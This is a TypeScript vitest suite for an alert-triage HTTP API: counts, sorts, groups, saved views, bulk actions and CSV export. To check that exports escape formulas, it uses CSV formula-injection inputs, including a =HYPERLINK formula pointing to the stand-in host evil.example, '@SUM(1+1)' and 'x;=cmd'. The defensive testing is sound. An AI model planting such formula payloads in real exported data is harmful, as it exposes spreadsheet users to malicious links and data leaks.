import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AlertExport } from '../src/alerts/alert-export.js';
import { csvCell } from '../src/core/csv-cell.js';
import { ADMIN_KEY, type SignedInPerson, startTestApp, type TestApp } from './support/app.js';
import { fixedClock, TEST_NOW } from './support/clock.js';

/**
 * Issue 20, triage at volume: the counts, groups, sorts, bulk actions, saved views and CSV export of
 * the alert feed, through the HTTP API. One Vigil for the file: six alerts from two custom rules, then
 * the tests read them and, last, act on them.
 */

const clock = fixedClock(TEST_NOW);
let t: TestApp;
let viewer: SignedInPerson;
let analyst: SignedInPerson;
let bigRule: string;
let midRule: string;
/** Alert ids by user, in the order they were raised (a minute apart). */
const alertOf: Record<string, string> = {};

const FORMULA_USER = '=HYPERLINK("http://evil.example/?x","open me")';
const AT_USER = '@SUM(1+1)';
/** Raised in this order: two high alerts (the big rule), then four medium ones (the middle rule). */
const RAISED: ReadonlyArray<readonly [string, number]> = [
  ['alice', 1500],
  ['bob', 1500],
  ['carol', 700],
  ['dave', 700],
  [FORMULA_USER, 700],
  [AT_USER, 700],
];

const asAdmin = (method: 'GET' | 'POST', url: string, payload?: object) =>
  t.app.inject({ method, url, headers: { authorization: `Bearer ${ADMIN_KEY}` }, ...(payload && { payload }) });

async function createRule(name: string, severity: string, conditions: object[]): Promise<string> {
  const r = await asAdmin('POST', '/v1/rules', { name, type: 'transaction', eventTypes: ['transaction'], conditions, severity });
  expect(r.statusCode).toBe(201);
  return r.json().id;
}

beforeAll(async () => {
  t = await startTestApp({ clock, builtinRules: [], env: { VIGIL_RESPONSE_POLICY: '[]' } });
  bigRule = await createRule('Big purchase', 'high', [{ field: 'amount', op: 'gt', value: 1000 }]);
  midRule = await createRule('Middle purchase', 'medium', [
    { field: 'amount', op: 'gt', value: 500 },
    { field: 'amount', op: 'lte', value: 1000 },
  ]);
  for (const [user, amount] of RAISED) {
    clock.advance(60_000);
    const sent = await t.send({
      type: 'transaction',
      user,
      amount,
      currency: 'EUR',
      ip: '81.2.69.160',
      session: `sess-${Object.keys(alertOf).length < 2 ? 'shared' : user}`,
      timestamp: new Date(clock.now()).toISOString(),
    });
    expect(sent.statusCode).toBe(200);
    alertOf[user] = sent.json().alertId;
    expect(alertOf[user]).toMatch(/^alrt_/);
  }
  [viewer, analyst] = await Promise.all([t.person('viewer'), t.person('analyst')]);
});
afterAll(async () => t?.close());

const ids = (alerts: Array<{ id: string }>) => alerts.map((a) => a.id);
const newestFirst = () => RAISED.map(([user]) => alertOf[user]).reverse();

describe('GET /v1/alerts/counts', () => {
  it('counts the alerts of the filter per status and per severity, every status and severity named', async () => {
    const all = await asAdmin('GET', '/v1/alerts/counts');
    expect(all.statusCode).toBe(200);
    expect(all.json()).toEqual({
      total: 6,
      status: { new: 6, acknowledged: 0, escalated: 0, resolved: 0, false_positive: 0 },
      severity: { critical: 0, high: 2, medium: 4, low: 0 },
    });
    // The same filter the list takes: a search, a severity, a rule, a time bound.
    expect((await asAdmin('GET', '/v1/alerts/counts?q=carol')).json().total).toBe(1);
    expect((await asAdmin('GET', '/v1/alerts/counts?severity=high')).json()).toMatchObject({ total: 2, severity: { high: 2, medium: 0 } });
    expect((await asAdmin('GET', `/v1/alerts/counts?rule=${midRule}`)).json().total).toBe(4);
    const since = new Date(TEST_NOW + 3 * 60_000).toISOString();
    expect((await asAdmin('GET', `/v1/alerts/counts?from=${since}`)).json().total).toBe(4);
  });

  it('refuses a bad filter with a stable code', async () => {
    const res = await asAdmin('GET', '/v1/alerts/counts?status=open');
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toMatchObject({ code: 'invalid_query', path: '/status' });
  });
});

describe('GET /v1/alerts sorted', () => {
  it('sorts newest first, oldest first, or strongest first (newest first within a severity)', async () => {
    const list = async (sort: string) => ids((await asAdmin('GET', `/v1/alerts?sort=${sort}`)).json().alerts);
    expect(await list('newest')).toEqual(newestFirst());
    expect(await list('oldest')).toEqual([...newestFirst()].reverse());
    expect(await list('severity')).toEqual([
      alertOf.bob,
      alertOf.alice,
      alertOf[AT_USER],
      alertOf[FORMULA_USER],
      alertOf.dave,
      alertOf.carol,
    ]);
  });

  it('pages through a sort with its cursor, each alert once', async () => {
    for (const sort of ['severity', 'oldest']) {
      const whole = ids((await asAdmin('GET', `/v1/alerts?sort=${sort}`)).json().alerts);
      const paged: string[] = [];
      let cursor: string | null = null;
      do {
        const page: { alerts: Array<{ id: string }>; nextCursor: string | null } = (
          await asAdmin('GET', `/v1/alerts?sort=${sort}&limit=4${cursor ? `&cursor=${cursor}` : ''}`)
        ).json();
        paged.push(...ids(page.alerts));
        cursor = page.nextCursor;
      } while (cursor);
      expect(paged).toEqual(whole);
    }
  });
});

describe('GET /v1/alerts/groups', () => {
  it('groups by rule, user or story with each group’s count and strongest severity; a group’s key lists its alerts', async () => {
    const byRule = (await asAdmin('GET', '/v1/alerts/groups?by=rule')).json();
    expect(byRule).toEqual({
      by: 'rule',
      groups: [
        { key: midRule, count: 4, latestAt: new Date(TEST_NOW + 6 * 60_000).toISOString(), severity: 'medium' },
        { key: bigRule, count: 2, latestAt: new Date(TEST_NOW + 2 * 60_000).toISOString(), severity: 'high' },
      ],
      more: false,
    });
    const byUser = (await asAdmin('GET', '/v1/alerts/groups?by=user&limit=4')).json();
    expect(byUser.groups.map((g: { key: string }) => g.key)).toEqual([AT_USER, FORMULA_USER, 'dave', 'carol']);
    expect(byUser.more).toBe(true);
    // alice and bob share a session: one story of two alerts.
    const stories = (await asAdmin('GET', '/v1/alerts/groups?by=story')).json().groups;
    expect(stories.find((g: { key: string }) => g.key === 'sess-shared')).toMatchObject({ count: 2, severity: 'high' });
    expect(stories).toHaveLength(5);

    const expanded = (await asAdmin('GET', `/v1/alerts?groupBy=rule&groupKey=${midRule}`)).json();
    expect(ids(expanded.alerts)).toEqual(newestFirst().slice(0, 4));
    const story = (await asAdmin('GET', '/v1/alerts?groupBy=story&groupKey=sess-shared')).json();
    expect(ids(story.alerts)).toEqual([alertOf.bob, alertOf.alice]);
  });

  it('refuses a group key without its grouping', async () => {
    const res = await asAdmin('GET', '/v1/alerts?groupKey=alice');
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toMatchObject({ code: 'invalid_query', path: '/groupBy' });
  });
});

describe('GET /v1/alerts/export.csv', () => {
  const parseLines = (body: string) => body.split('\r\n').filter(Boolean);

  it('streams the filter’s alerts as CSV, formulas escaped, and records the export', async () => {
    const res = await viewer.request('GET', '/v1/alerts/export.csv?severity=medium&sort=oldest');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="vigil-alerts-2026-03-10\.csv"$/);
    const lines = parseLines(res.body);
    expect(lines[0]).toBe(
      'id,created_at,last_seen_at,severity,status,risk,decision,type,subject_kind,subject,user,rules,summary,occurrences,ip,country,city,acknowledged_at,resolved_at',
    );
    expect(lines).toHaveLength(5);
    expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(newestFirst().slice(0, 4).reverse());
    const carol = lines[1] as string;
    expect(carol).toContain(`,${new Date(TEST_NOW + 3 * 60_000).toISOString()},`);
    expect(carol).toContain(',medium,new,35,challenge,transaction,user,carol,carol,');
    // A user id an attacker chose is text in the spreadsheet, never a formula: a leading ' and quoted.
    expect(res.body).toContain(`,"'=HYPERLINK(""http://evil.example/?x"",""open me"")",`);
    expect(res.body).toContain(`,'@SUM(1+1),'@SUM(1+1),`);
    expect(res.body).not.toMatch(/,"?[=@]/);

    const audit = (await asAdmin('GET', '/v1/audit?action=alerts.exported')).json().entries;
    expect(audit[0]).toMatchObject({ action: 'alerts.exported', actor: expect.stringContaining(viewer.email) });
    expect(audit[0].details).toMatchObject({ sort: 'oldest', filter: { severity: ['medium'] } });
  });

  it('refuses a bad filter before it starts, and a member', async () => {
    const bad = await asAdmin('GET', '/v1/alerts/export.csv?severity=severe');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.code).toBe('invalid_query');
    const member = await t.person('member', 'alice');
    expect((await member.request('GET', '/v1/alerts/export.csv')).statusCode).toBe(403);
  });

  it('reads page after page, so any number of alerts leaves one page in memory', async () => {
    const pages: unknown[] = [];
    const store = t.system.alerts;
    const counting = {
      ...store,
      list: (q: Parameters<typeof store.list>[0]) => {
        pages.push(q);
        return store.list(q);
      },
    };
    const lines = await new AlertExport(counting, t.system.audit, 2).start({}, 'newest', 'test');
    let body = '';
    for await (const chunk of lines) body += chunk;
    expect(
      parseLines(body)
        .slice(1)
        .map((l) => l.split(',')[0]),
    ).toEqual(newestFirst());
    expect(pages).toHaveLength(4);
  });

  it('uses the CSV cell writer of every export: formulas made text wherever a cell may begin, numbers left as figures', () => {
    expect(['=1+1', '-2+3', '@x', '\tx', 'x;=cmd', 'a,b', 'say "hi"', '+1', '-3'].map(csvCell)).toEqual([
      "'=1+1",
      "'-2+3",
      "'@x",
      "'\tx",
      "x;'=cmd",
      '"a,b"',
      '"say ""hi"""',
      '+1',
      '-3',
    ]);
  });
});

describe('saved views', () => {
  it('saves, lists, replaces and deletes a staff member’s own views, audited', async () => {
    const saved = await viewer.request('POST', '/v1/saved-views', { name: 'High, new', query: '?severity=high&status=new&view=table' });
    expect(saved.statusCode).toBe(201);
    expect(saved.json()).toMatchObject({ name: 'High, new', query: 'severity=high&status=new&view=table' });
    const again = await viewer.request('POST', '/v1/saved-views', { name: 'High, new', query: 'severity=high&sort=oldest' });
    expect(again.statusCode).toBe(201);
    expect(again.json()).toMatchObject({ id: saved.json().id, query: 'severity=high&sort=oldest' });
    await viewer.request('POST', '/v1/saved-views', { name: 'Carol', query: 'user=carol' });
    const views = (await viewer.request('GET', '/v1/saved-views')).json().views;
    expect(views.map((v: { name: string; query: string }) => [v.name, v.query])).toEqual([
      ['Carol', 'user=carol'],
      ['High, new', 'severity=high&sort=oldest'],
    ]);

    // Another staff member sees none of them and cannot delete them.
    expect((await analyst.request('GET', '/v1/saved-views')).json().views).toEqual([]);
    const foreign = await analyst.request('DELETE', `/v1/saved-views/${saved.json().id}`);
    expect(foreign.statusCode).toBe(404);
    expect(foreign.json().error.code).toBe('not_found');

    expect((await viewer.request('DELETE', `/v1/saved-views/${saved.json().id}`)).statusCode).toBe(204);
    expect((await viewer.request('GET', '/v1/saved-views')).json().views.map((v: { name: string }) => v.name)).toEqual(['Carol']);
    const audit = (await asAdmin('GET', `/v1/audit?subject=view:${saved.json().id}`)).json().entries;
    expect(audit.map((e: { action: string }) => e.action).sort()).toEqual(['view.deleted', 'view.saved', 'view.saved']);
  });

  it('refuses a query the feed would not understand, and a blank name', async () => {
    const unknown = await viewer.request('POST', '/v1/saved-views', { name: 'x', query: 'status=new&limit=5000' });
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json().error).toMatchObject({ code: 'invalid_body', path: '/query' });
    const blank = await viewer.request('POST', '/v1/saved-views', { name: '   ', query: 'status=new' });
    expect(blank.statusCode).toBe(400);
    expect(blank.json().error).toMatchObject({ code: 'invalid_body', path: '/name' });
  });
});

describe('POST /v1/alerts/bulk', () => {
  it('acts on each alert as the single action does, answering one result per id, unknown ids included', async () => {
    const res = await analyst.request('POST', '/v1/alerts/bulk', {
      action: 'acknowledge',
      ids: [alertOf.carol, alertOf.dave, 'alrt_nope', alertOf.carol],
      note: 'triaged in bulk',
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({
      action: 'acknowledge',
      succeeded: 2,
      failed: 1,
      results: [
        { id: alertOf.carol, ok: true, status: 'acknowledged' },
        { id: alertOf.dave, ok: true, status: 'acknowledged' },
        { id: 'alrt_nope', ok: false, error: { code: 'not_found', message: 'No alert alrt_nope.' } },
      ],
    });
    const carol = (await asAdmin('GET', `/v1/alerts/${alertOf.carol}`)).json();
    expect(carol.transitions).toEqual([
      expect.objectContaining({ from: 'new', to: 'acknowledged', note: 'triaged in bulk', actor: expect.stringContaining(analyst.email) }),
    ]);
    const audit = (await asAdmin('GET', `/v1/audit?subject=alert:${alertOf.dave}`)).json().entries;
    expect(audit).toEqual([expect.objectContaining({ action: 'alert.acknowledged', actor: expect.stringContaining(analyst.email) })]);

    // Resolve and false positive; an alert already closed fails on its own, the others go on.
    const resolved = (await analyst.request('POST', '/v1/alerts/bulk', { action: 'resolve', ids: [alertOf.carol, alertOf.alice] })).json();
    expect(resolved.results.map((r: { status: string }) => r.status)).toEqual(['resolved', 'resolved']);
    const fp = (await analyst.request('POST', '/v1/alerts/bulk', { action: 'false-positive', ids: [alertOf.carol, alertOf.bob] })).json();
    expect(fp).toMatchObject({ succeeded: 1, failed: 1 });
    expect(fp.results[0]).toMatchObject({ id: alertOf.carol, ok: false, error: { code: 'invalid_transition' } });
    expect(fp.results[1]).toEqual({ id: alertOf.bob, ok: true, status: 'false_positive' });

    expect((await asAdmin('GET', '/v1/alerts/counts')).json().status).toEqual({
      new: 2,
      acknowledged: 1,
      escalated: 0,
      resolved: 2,
      false_positive: 1,
    });
  });

  it('is refused to a viewer, and refuses more than 100 ids, an unknown action, or no ids', async () => {
    const refused = await viewer.request('POST', '/v1/alerts/bulk', { action: 'acknowledge', ids: [alertOf.dave] });
    expect(refused.statusCode).toBe(403);
    const tooMany = await analyst.request('POST', '/v1/alerts/bulk', {
      action: 'acknowledge',
      ids: Array.from({ length: 101 }, (_, i) => `alrt_${i}`),
    });
    expect(tooMany.statusCode).toBe(400);
    expect(tooMany.json().error).toMatchObject({ code: 'invalid_body', path: '/ids' });
    const escalate = await analyst.request('POST', '/v1/alerts/bulk', { action: 'escalate', ids: [alertOf.dave] });
    expect(escalate.statusCode).toBe(400);
    expect(escalate.json().error.code).toBe('invalid_body');
    const none = await analyst.request('POST', '/v1/alerts/bulk', { action: 'resolve', ids: [] });
    expect(none.statusCode).toBe(400);
    // Nothing moved.
    expect((await asAdmin('GET', `/v1/alerts/${alertOf.dave}`)).json().status).toBe('acknowledged');
  });
});
